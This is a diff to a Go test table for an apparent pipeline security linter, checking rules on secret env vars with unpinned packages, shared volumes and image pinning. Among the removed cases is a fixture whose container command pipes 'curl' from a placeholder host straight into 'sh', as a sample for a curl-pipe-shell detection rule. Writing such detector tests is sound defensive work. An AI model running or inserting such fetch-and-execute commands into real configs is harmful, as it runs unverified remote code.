@@ -202,17 +202,11 @@ func TestRules(t *testing.T) {
 		{name: "secret env + pinned", rule: "pipeline/kfp-secret-env-unpinned-code", src: oneTask("", "'transformers==4.44.0'", secretEnv), want: 0},
 		{name: "secret env + bare trusted host", rule: "pipeline/kfp-secret-env-unpinned-code", src: oneTask("--index-url https://p.example.com/simple --trusted-host p.example.com", "'transformers==4.44.0'", secretEnv), want: 1},
 		{name: "secret env + SDK URL trusted host", rule: "pipeline/kfp-secret-env-unpinned-code", src: oneTask("--index-url https://p.example.com/simple --trusted-host https://p.example.com/simple", "'transformers==4.44.0'", secretEnv), want: 0},
-		{name: "curl to shell in a container command", rule: "pipeline/k8s-curl-pipe-shell", src: pipelineOf(comp("a", "", ""), "    exec-a:\n      container:\n        image: a:1\n        command: [sh, -c, 'curl -fsSL https://x.example/i.sh | sh']\n", task("a", "a", "", "", "", ""), ""), want: 1},
-		{name: "curl to file in a container command", rule: "pipeline/k8s-curl-pipe-shell", src: pipelineOf(comp("a", "", ""), "    exec-a:\n      container:\n        image: a:1\n        command: [sh, -c, 'curl -fsSLo i.sh https://x.example/i.sh']\n", task("a", "a", "", "", "", ""), ""), want: 0},
 		{name: "unpinned without secrets", rule: "pipeline/kfp-secret-env-unpinned-code", src: oneTask("", "'transformers'", ""), want: 0},
 		{name: "pvc after import", rule: "pipeline/kfp-pvc-shared-with-untrusted", src: importFlow("gs://bucket/m.pt", pvc("load")+pvc("train")), want: 1},
 		{name: "pvc only later", rule: "pipeline/kfp-pvc-shared-with-untrusted", src: importFlow("gs://bucket/m.pt", pvc("train")), want: 0},
 		{name: "pvc without import", rule: "pipeline/kfp-pvc-shared-with-untrusted", src: pipelineOf(comp("a", "", "x")+comp("b", "", ""),
 			executor("a", pinned, "", "")+executor("b", pinned, "", ""), task("a", "a", "", "", "", "")+task("b", "b", "a", "", "", ""), pvc("a")+pvc("b")), want: 0},
-		{name: "tag image", rule: "pipeline/k8s-image-without-digest", src: pipelineOf(comp("a", "", ""), executor("a", "python:3.11", "", ""), task("a", "a", "", "", "", ""), ""), want: 1},
-		{name: "digest image", rule: "pipeline/k8s-image-without-digest", src: pipelineOf(comp("a", "", ""), executor("a", pinned, "", ""), task("a", "a", "", "", "", ""), ""), want: 0},
-		{name: "latest image", rule: "pipeline/k8s-image-latest-tag", src: pipelineOf(comp("a", "", ""), executor("a", "python:latest", "", ""), task("a", "a", "", "", "", ""), ""), want: 1},
-		{name: "versioned image", rule: "pipeline/k8s-image-latest-tag", src: pipelineOf(comp("a", "", ""), executor("a", "python:3.11", "", ""), task("a", "a", "", "", "", ""), ""), want: 0},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
